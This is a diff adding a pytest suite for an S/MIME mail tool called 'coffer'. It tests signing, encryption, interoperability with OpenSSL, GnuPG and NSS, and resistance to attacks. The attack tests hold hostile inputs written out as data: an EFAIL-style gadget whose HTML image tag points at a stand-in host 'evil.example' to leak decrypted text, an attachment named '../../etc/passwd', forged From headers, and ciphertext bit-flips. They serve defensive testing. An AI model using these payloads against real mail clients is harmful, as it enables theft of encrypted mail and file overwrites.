@@ -1,0 +1,452 @@
+"""coffer mail: verdicts on foreign messages, interoperation with OpenSSL, GnuPG and NSS, attacks."""
+
+import base64
+import json
+import os
+import pathlib
+import re
+import resource
+import shutil
+import subprocess
+
+import pytest
+
+from helpers import instance as instances
+
+COFFER = instances.program("coffer")
+DATA = pathlib.Path(__file__).resolve().parents[3] / "shared" / "data" / "smime-thunderbird"
+needs_data = pytest.mark.skipif(not DATA.is_dir(), reason="no shared test messages beside the project")
+
+OK, VERIFY, UNTRUSTED, PARTLY, NOT_SIGNED = 0, 5, 6, 7, 8
+MESSAGE = (b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hello\r\n"
+           b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
+           b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+           b"Gr\xc3\xbc\xc3\x9fe \r\nFrom here\r\n--b\r\n"
+           b"Content-Type: application/pdf; name=\"../../etc/passwd\"\r\n"
+           b"Content-Transfer-Encoding: base64\r\n\r\nAAECAwQ=\r\n--b--\r\n")
+
+
+def coffer(*args, stdin=b"", status=0):
+    done = subprocess.run([COFFER, *map(str, args)], input=stdin, capture_output=True, timeout=120)
+    assert done.returncode == status, (args, done.returncode, done.stderr[-2000:], done.stdout[-500:])
+    return done.stdout
+
+
+def openssl(*args, stdin=b"", status=0):
+    done = subprocess.run(["openssl", *map(str, args)], input=stdin, capture_output=True, timeout=120)
+    assert done.returncode == status, (args, done.stderr)
+    return done.stdout
+
+
+class People:
+    """A root and certificates under it, made by OpenSSL: not our own issuer's."""
+
+    def __init__(self, directory):
+        self.dir = directory
+        self.root = directory / "root.pem"
+        openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+                "-keyout", directory / "root.key", "-out", self.root, "-subj", "/CN=Test Root",
+                "-days", "30", "-addext", "keyUsage=critical,keyCertSign,cRLSign")
+
+    def add(self, name, kind=("rsa:2048",), address=None, days="20", usage=None):
+        """Key and certificate in one PEM file; returns its path. NAME.crt has the certificate alone."""
+        d = self.dir
+        ext = d / f"{name}.ext"
+        ext.write_text(f"subjectAltName=email:{address or name + '@example.org'}\n"
+                       "basicConstraints=CA:FALSE\nsubjectKeyIdentifier=hash\n"
+                       f"keyUsage={usage or 'digitalSignature,keyEncipherment,keyAgreement'}\n"
+                       "extendedKeyUsage=emailProtection\n")
+        openssl("req", "-new", "-newkey", *kind, "-nodes", "-keyout", d / f"{name}.key",
+                "-out", d / f"{name}.csr", "-subj", f"/CN={name}")
+        openssl("x509", "-req", "-in", d / f"{name}.csr", "-CA", self.root, "-CAkey", d / "root.key",
+                "-out", d / f"{name}.crt", "-days", days, "-extfile", ext, "-CAcreateserial")
+        both = d / f"{name}.pem"
+        both.write_bytes((d / f"{name}.key").read_bytes() + (d / f"{name}.crt").read_bytes())
+        return both
+
+    def crt(self, name):
+        return self.dir / f"{name}.crt"
+
+
+EC = ("ec", "-pkeyopt", "ec_paramgen_curve:P-256")
+
+
+@pytest.fixture(scope="module")
+def people(tmp_path_factory):
+    made = People(tmp_path_factory.mktemp("people"))
+    made.add("alice")
+    made.add("bob")
+    made.add("eve")
+    made.add("carol", kind=EC)
+    made.add("dave", kind=("ec", "-pkeyopt", "ec_paramgen_curve:P-384"))
+    return made
+
+
+# ---- Verdicts on Thunderbird's messages: which, and why --------------------------------------------
+
+
+def expected(name):
+    """(status, envelopes, states of the signatures) from what ORIGIN.txt says a name means."""
+    envelopes = name.count(".env")
+    if ".bad." in name or "mismatch-econtent" in name:
+        return "broken", envelopes
+    if re.match(r"alice\.env\.dsig\.SHA\d+\.multipart\.eml$", name):
+        return "broken", envelopes  # altered on the way; OpenSSL says so too
+    if ".sig." not in name and ".dsig." not in name:
+        return "good", envelopes
+    if "SHA1" in name:
+        return "untrusted", envelopes  # SHA-1 doesn't count as a signature any more
+    return "good", envelopes
+
+
+@pytest.fixture(scope="module")
+def bob_tb(tmp_path_factory):
+    path = tmp_path_factory.mktemp("tb")
+    (path / "pass").write_text("nss\n")
+    os.chmod(path / "pass", 0o600)
+    return path / "pass"
+
+
+@needs_data
+@pytest.mark.parametrize("name", sorted(p.name for p in DATA.glob("*.eml")) if DATA.is_dir() else [])
+def test_mail__verdict_on_thunderbirds_messages(bob_tb, name):
+    status, envelopes = expected(name)
+    done = subprocess.run([COFFER, "mail", "verify", "--json", "--root", DATA / "TestCA.pem", "--key",
+                           DATA / "Bob.p12", "--passphrase-file", bob_tb, DATA / name],
+                          capture_output=True, timeout=60)
+    verdict = json.loads(done.stdout)
+    assert verdict["status"] == status, verdict
+    assert len(verdict["envelopes"]) == envelopes
+    signed = ".sig." in name or ".dsig." in name
+    assert bool(verdict["signatures"]) == signed
+    assert done.returncode == {"broken": VERIFY, "untrusted": UNTRUSTED}.get(
+        status, OK if signed else NOT_SIGNED)
+    if "mismatch-econtent" in name:
+        assert "econtent-differs" in verdict["problems"]
+    if ".dave." in name:  # two signers, one inside the other: only Alice is the sender
+        matches = sorted(s["match"] for g in verdict["signatures"] for s in g["signers"])
+        assert matches == ["from", "none"]
+
+
+# ---- Both ways with other programs -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("who", ["alice", "carol", "dave"])
+@pytest.mark.parametrize("form", [[], ["--opaque"], ["--digest", "sha512"]])
+def test_mail__openssl_verifies_what_we_sign(people, tmp_path, who, form):
+    message = MESSAGE.replace(b"alice@", who.encode() + b"@")
+    signed = coffer("mail", "sign", "--key", people.dir / f"{who}.pem", *form, stdin=message)
+    (tmp_path / "s.eml").write_bytes(signed)
+    content = openssl("cms", "-verify", "-in", tmp_path / "s.eml", "-CAfile", people.root)
+    assert b"Gr=C3=BC=C3=9Fe=20\n=46rom here" in content.replace(b"\r\n", b"\n")  # 7-bit before it was signed
+    verdict = json.loads(coffer("mail", "verify", "--json", "--root", people.root, tmp_path / "s.eml"))
+    assert verdict["status"] == "good" and verdict["problems"] == []
+    assert verdict["signatures"][0]["whole_message"]
+
+
+@pytest.mark.parametrize("how", [[], ["-nodetach"], ["-md", "sha384"],
+                                 ["-keyopt", "rsa_padding_mode:pss"], ["-keyid"], ["-noattr"]])
+def test_mail__we_verify_what_openssl_signs(people, tmp_path, how):
+    entity = b"Content-Type: text/plain\r\n\r\nhello\r\n"
+    signed = openssl("cms", "-sign", "-signer", people.dir / "alice.pem", "-crlfeol", *how, stdin=entity)
+    (tmp_path / "s.eml").write_bytes(b"From: alice@example.org\r\n" + signed)
+    verdict = json.loads(coffer("mail", "verify", "--json", "--root", people.root, tmp_path / "s.eml"))
+    assert verdict["status"] == "good", verdict
+
+
+@pytest.mark.parametrize("how", [[], ["--cipher", "aes256-gcm"], ["--cipher", "des3"], ["--oaep"],
+                                 ["--cipher", "aes128-cbc"]])
+@pytest.mark.parametrize("who", ["bob", "carol", "dave"])
+def test_mail__openssl_opens_what_we_encrypt(people, tmp_path, how, who):
+    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), "--to", people.crt("carol"), "--to",
+                    people.crt("dave"), *how, stdin=MESSAGE)
+    (tmp_path / "e.eml").write_bytes(sealed)
+    plain = openssl("cms", "-decrypt", "-in", tmp_path / "e.eml", "-recip", people.crt(who), "-inkey",
+                    people.dir / f"{who}.key", "-binary")
+    assert plain.startswith(b"Content-Type: multipart/mixed; boundary=b\r\n")
+    ours = coffer("mail", "decrypt", "--key", people.dir / f"{who}.pem", tmp_path / "e.eml")
+    assert ours.endswith(plain)
+    assert ours.startswith(b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hello\r\n")
+
+
+@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-192-cbc", "-aes-128-cbc", "-des3",
+                                    "-aes-256-gcm", "-aes-128-gcm"])
+@pytest.mark.parametrize("how", [[], ["-keyid"], ["-stream", "-indef"], ["oaep"]])
+def test_mail__we_open_what_openssl_encrypts(people, tmp_path, cipher, how):
+    for who in ("bob", "carol"):
+        keyopt = ["-keyopt", "rsa_padding_mode:oaep"] if how == ["oaep"] and who == "bob" else []
+        rest = [] if how == ["oaep"] else how
+        sealed = openssl("cms", "-encrypt", cipher, *rest, "-recip", people.crt(who), *keyopt,
+                         "-binary", stdin=b"Content-Type: text/plain\r\n\r\nhello\r\n" * 200)
+        message = b"From: alice@example.org\r\n" + sealed
+        plain = coffer("mail", "decrypt", "--key", people.dir / f"{who}.pem", stdin=message)
+        assert plain.count(b"hello\r\n") == 200
+
+
+@pytest.mark.skipif(not shutil.which("gpgsm"), reason="no gpgsm")
+def test_mail__gpgsm_reads_and_is_read(people, tmp_path):
+    home = tmp_path / "gnupg"
+    home.mkdir(mode=0o700)
+    env = dict(os.environ, GNUPGHOME=str(home))
+    openssl("pkcs12", "-export", "-in", people.dir / "bob.pem", "-out", tmp_path / "bob.p12", "-passout",
+            "pass:x", "-legacy")
+    (home / "gpgsm.conf").write_text("disable-crl-checks\n")
+    (home / "gpg-agent.conf").write_text("allow-preset-passphrase\nallow-loopback-pinentry\n")
+    fingerprint = openssl("x509", "-in", people.root, "-noout", "-fingerprint", "-sha1").decode()
+    (home / "trustlist.txt").write_text(fingerprint.split("=")[1].strip() + " S relax\n")
+
+    def gpgsm(*args, stdin=b""):
+        done = subprocess.run(["gpgsm", "--batch", "--pinentry-mode", "loopback", "--passphrase-fd",
+                               "0", *map(str, args)], input=b"x\n" + stdin, capture_output=True,
+                              env=env, timeout=60)
+        return done
+
+    try:
+        subprocess.run(["gpgsm", "--batch", "--import", str(people.root)], env=env, check=True,
+                       capture_output=True)
+        assert gpgsm("--import", tmp_path / "bob.p12").returncode == 0
+        sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
+        (tmp_path / "e.der").write_bytes(base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1]))
+        done = gpgsm("--decrypt", "--output", tmp_path / "plain", tmp_path / "e.der")
+        assert done.returncode == 0, done.stderr
+        assert b"multipart/mixed" in (tmp_path / "plain").read_bytes()
+        (tmp_path / "in").write_bytes(b"Content-Type: text/plain\r\n\r\nfrom gpgsm\r\n")
+        done = subprocess.run(["gpgsm", "--batch", "--encrypt", "--recipient",
+                               "bob@example.org", "--output", str(tmp_path / "g.der"),
+                               str(tmp_path / "in")], env=env, capture_output=True)
+        assert done.returncode == 0, done.stderr
+        message = (b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
+                   b"Content-Transfer-Encoding: base64\r\n\r\n"
+                   + base64.encodebytes((tmp_path / "g.der").read_bytes()))
+        assert b"from gpgsm" in coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=message)
+    finally:
+        subprocess.run(["gpgconf", "--kill", "all"], env=env, capture_output=True)
+
+
+@pytest.mark.skipif(not shutil.which("cmsutil"), reason="no NSS tools")
+def test_mail__nss_reads_what_we_write(people, tmp_path):
+    db = f"sql:{tmp_path}"
+    openssl("pkcs12", "-export", "-in", people.dir / "bob.pem", "-certfile", people.root, "-out",
+            tmp_path / "bob.p12", "-passout", "pass:x", "-name", "bob")
+    subprocess.run(["certutil", "-N", "-d", db, "--empty-password"], check=True, capture_output=True)
+    subprocess.run(["certutil", "-A", "-d", db, "-n", "root", "-t", "TC,TC,TC", "-i", str(people.root)],
+                   check=True, capture_output=True)
+    subprocess.run(["pk12util", "-i", str(tmp_path / "bob.p12"), "-d", db, "-W", "x", "-K", ""],
+                   check=True, capture_output=True)
+    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
+    (tmp_path / "e.der").write_bytes(base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1]))
+    done = subprocess.run(["cmsutil", "-D", "-d", db, "-i", str(tmp_path / "e.der")],
+                          capture_output=True)
+    assert done.returncode == 0 and b"multipart/mixed" in done.stdout, done.stderr
+    signed = coffer("mail", "sign", "--opaque", "--key", people.dir / "alice.pem", stdin=MESSAGE)
+    (tmp_path / "s.der").write_bytes(base64.b64decode(signed.split(b"\r\n\r\n", 1)[1]))
+    done = subprocess.run(["cmsutil", "-D", "-d", db, "-i", str(tmp_path / "s.der")],
+                          capture_output=True)
+    assert done.returncode == 0 and b"multipart/mixed" in done.stdout, done.stderr
+
+
+# ---- The story of lost attachments -----------------------------------------------------------------
+
+
+def test_mail__signed_and_encrypted_keeps_every_attachment(people, tmp_path):
+    sealed = coffer("mail", "encrypt", "--key", people.dir / "alice.pem", "--to", people.crt("bob"),
+                    "--opaque", stdin=MESSAGE)
+    out = json.loads(coffer("mail", "extract", "--json", "--dir", tmp_path / "parts", "--key",
+                            people.dir / "bob.pem", "--root", people.root, stdin=sealed))
+    assert out["status"] == "good"
+    files = sorted(os.listdir(tmp_path / "parts"))
+    assert len(files) == 2 and all("/" not in f and not f.startswith(".") for f in files)
+    contents = {(tmp_path / "parts" / f).read_bytes() for f in files}
+    assert contents == {b"\x00\x01\x02\x03\x04", "Grüße \r\nFrom here".encode()}
+    assert not os.path.exists("/etc/passwd-coffer") and any(f.endswith("-passwd") for f in files)
+
+
+def test_mail__two_attachments_of_one_name_never_mix(people, tmp_path):
+    for content in (b"AAAA", b"BBBB"):
+        message = MESSAGE.replace(b"AAECAwQ=", content)
+        coffer("mail", "extract", "--dir", tmp_path / "parts", stdin=message)
+    files = [f for f in os.listdir(tmp_path / "parts") if f.endswith("-passwd")]
+    assert len(files) == 2
+
+
+def test_mail__a_former_key_opens_old_mail(people):
+    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
+    plain = coffer("mail", "decrypt", "--key", people.dir / "carol.pem", "--key",
+                   people.dir / "bob.pem", stdin=sealed)
+    assert b"multipart/mixed" in plain
+
+
+# ---- Attacks ---------------------------------------------------------------------------------------
+
+
+def verify(people, message, *more, status):
+    return json.loads(coffer("mail", "verify", "--json", "--root", people.root, *more, stdin=message,
+                             status=status))
+
+
+def test_mail__an_altered_body_is_seen(people):
+    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
+    assert verify(people, signed.replace(b"hello", b"hallo"), status=OK)  # the outer header isn't signed
+    verdict = verify(people, signed.replace(b"AAECAwQ=", b"AAECAwU="), status=VERIFY)
+    assert verdict["signatures"][0]["signers"][0]["state"] == "altered"
+
+
+@pytest.mark.parametrize("header", [
+    b"From: alice@example.org, eve@example.org\r\n",
+    b"From: alice@example.org\r\nFrom: eve@example.org\r\n",
+    b"From: alice@example.org <eve@example.org>\r\n",
+    b"From: \"alice@example.org\" <eve@example.org>\r\n",
+    b"From: eve@example.org (alice@example.org)\r\n",
+    b"From: eve@example.org <alice@example.org\r\n",
+    b"From: undisclosed:alice@example.org,eve@example.org;\r\n",
+    b"Subject: no from at all\r\n",
+])
+def test_mail__johnny_is_not_alice(people, header):
+    """Several From, names that look like addresses, broken ones: never 'signed by the sender'."""
+    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
+    forged = header + signed.split(b"\r\n", 1)[1]
+    verdict = verify(people, forged, status=UNTRUSTED)
+    assert [s["match"] for s in verdict["signatures"][0]["signers"]] == ["none"]
+
+
+def test_mail__eves_certificate_with_alices_name_is_not_alice(people):
+    people.add("mallory", address="mallory@example.org")
+    signed = coffer("mail", "sign", "--key", people.dir / "mallory.pem", stdin=MESSAGE)
+    assert verify(people, signed, status=UNTRUSTED)["signatures"][0]["signers"][0]["match"] == "none"
+
+
+def test_mail__an_unknown_root_is_not_trusted(people, tmp_path):
+    other = People(tmp_path)
+    other.add("alice")
+    signed = coffer("mail", "sign", "--key", tmp_path / "alice.pem", stdin=MESSAGE)
+    verdict = verify(people, signed, status=UNTRUSTED)
+    assert verdict["signatures"][0]["signers"][0]["trust"] == "unknown"
+
+
+def test_mail__a_signature_inside_an_attachment_does_not_sign_the_message(people):
+    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
+    wrapped = (b"From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n"
+               b"--outer\r\nContent-Type: text/plain\r\n\r\nSend money.\r\n--outer\r\n"
+               b"Content-Type: message/rfc822\r\n\r\n" + signed + b"\r\n--outer--\r\n")
+    verdict = verify(people, wrapped, status=PARTLY)
+    assert "partial-signature" in verdict["problems"]
+    plain = [p for p in verdict["parts"] if p["path"] == "1.1"][0]
+    assert plain["signature"] is None
+
+
+def efail(people, how):
+    """A gadget message: an encrypted part between clear ones, to be joined by a careless reader."""
+    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
+    part = sealed.split(b"MIME-Version: 1.0\r\n", 1)[1]
+    return (b"From: eve@example.org\r\nContent-Type: multipart/" + how + b"; boundary=x\r\n\r\n"
+            b"--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--x\r\n" + part +
+            b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n")
+
+
+@pytest.mark.parametrize("how", [b"mixed", b"alternative", b"related"])
+def test_mail__efail_direct_exfiltration_finds_nothing_decrypted(people, tmp_path, how):
+    message = efail(people, how)
+    verdict = verify(people, message, "--key", people.dir / "bob.pem", status=NOT_SIGNED)
+    assert verdict["envelopes"] == [] and "nested-envelope" in verdict["problems"]
+    coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=message, status=2)
+    coffer("mail", "extract", "--dir", tmp_path / "x", "--key", people.dir / "bob.pem", stdin=message)
+    assert all(b"From here" not in (tmp_path / "x" / f).read_bytes() for f in os.listdir(tmp_path / "x"))
+
+
+def test_mail__cbc_says_that_it_has_no_integrity(people):
+    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
+    key = people.dir / "bob.pem"
+    assert "no-integrity" in verify(people, sealed, "--key", key, status=NOT_SIGNED)["problems"]
+    gcm = coffer("mail", "encrypt", "--cipher", "aes256-gcm", "--to", people.crt("bob"), stdin=MESSAGE)
+    assert "no-integrity" not in verify(people, gcm, "--key", key, status=NOT_SIGNED)["problems"]
+
+
+def flip(message, at):
+    """Changes one byte of the CMS inside a message made of a header and base64."""
+    head, body = message.split(b"\r\n\r\n", 1)
+    der = bytearray(base64.b64decode(body))
+    der[at] ^= 1
+    return head + b"\r\n\r\n" + base64.encodebytes(bytes(der))
+
+
+def test_mail__an_altered_gcm_message_gives_nothing(people):
+    sealed = coffer("mail", "encrypt", "--cipher", "aes256-gcm", "--to", people.crt("bob"),
+                    stdin=MESSAGE + b"x" * 300000)
+    for at in (-200000, -40, -20):  # content, content's end, the tag
+        assert coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=flip(sealed, at),
+                      status=VERIFY) == b""
+
+
+def test_mail__errors_of_decryption_are_all_the_same(people):
+    """Wrong padding of the key, wrong key, altered ciphertext: one text, one status."""
+    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
+    der = base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1])
+    key_at = der.index(b"\x04\x82\x01\x00") + 4
+    seen = set()
+    for at in (key_at + 5, key_at + 200, len(der) - 29):  # the last: only the padding changes
+        done = subprocess.run([COFFER, "mail", "decrypt", "--key", str(people.dir / "bob.pem")],
+                              input=flip(sealed, at), capture_output=True)
+        assert done.stdout == b""
+        seen.add((done.returncode, done.stderr))
+    assert len(seen) == 1 and seen.pop()[0] == VERIFY
+
+
+def test_mail__not_for_us_and_no_key_are_said_clearly(people):
+    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
+    done = subprocess.run([COFFER, "mail", "decrypt", "--key", str(people.dir / "eve.pem")], input=sealed,
+                          capture_output=True)
+    assert done.returncode == 3 and b"not encrypted to any key here" in done.stderr
+    done = subprocess.run([COFFER, "mail", "decrypt"], input=sealed, capture_output=True)
+    assert done.returncode == 3 and b"--key" in done.stderr
+
+
+@pytest.mark.parametrize("message", [
+    b"",
+    b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n\r\n",
+    b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
+    b"Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx\r\n",
+    b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
+    b"Content-Transfer-Encoding: base64\r\n\r\n" + b"MIAG" * 50000,
+    b"From: a@example.org\r\nContent-Type: multipart/signed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b\r\n"
+    b"Content-Type: application/pkcs7-signature\r\n\r\nnot base64 at all\r\n--b--\r\n",
+    b"\x00" * 100000,
+    b"From: a@example.org\r\n\r\n" + b"x" * (1 << 20),
+    b"A" * (300 << 10),
+    b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(200)),
+    b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\n" * 20000,
+], ids=["empty", "no-body", "cut", "nested-ber", "no-signature", "nul", "long-line", "no-newline",
+        "deep", "many"])
+def test_mail__rubbish_is_refused_or_reported(people, message):
+    for command in ("verify", "decrypt", "show"):
+        done = subprocess.run([COFFER, "mail", command, "--key", str(people.dir / "bob.pem")],
+                              input=message, capture_output=True, timeout=20)
+        assert done.returncode in (0, 1, 2, 3, 5, 6, 7, 8), (command, done.returncode, done.stderr)
+
+
+def test_mail__memory_stays_bounded(people, tmp_path):
+    """60 MB through encryption, signature and back, with 24 MB for data."""
+    big = tmp_path / "big.eml"
+    with open(big, "wb") as f:
+        f.write(b"From: alice@example.org\r\nContent-Type: application/octet-stream\r\n"
+                b"Content-Transfer-Encoding: base64\r\n\r\n")
+        line = base64.b64encode(bytes(range(57))) + b"\r\n"
+        for _ in range(60 * 1024 * 1024 // len(line) // 1024):
+            f.write(line * 1024)
+    sealed = tmp_path / "sealed.eml"
+
+    def limit():
+        resource.setrlimit(resource.RLIMIT_DATA, (24 << 20, 24 << 20))
+
+    sanitized = b"__asan_init" in pathlib.Path(COFFER).read_bytes()
+
+    def bounded(*args, stdin, stdout):
+        subprocess.run([COFFER, *map(str, args)], stdin=stdin, stdout=stdout, check=True,
+                       preexec_fn=None if sanitized else limit)
+
+    with open(big, "rb") as i, open(sealed, "wb") as o:
+        bounded("mail", "encrypt", "--key", people.dir / "alice.pem", "--to", people.crt("bob"),
+                stdin=i, stdout=o)
+    with open(sealed, "rb") as i, open(tmp_path / "plain.eml", "wb") as o:
+        bounded("mail", "decrypt", "--root", people.root, "--key", people.dir / "bob.pem",
+                stdin=i, stdout=o)
+    assert (tmp_path / "plain.eml").stat().st_size > big.stat().st_size
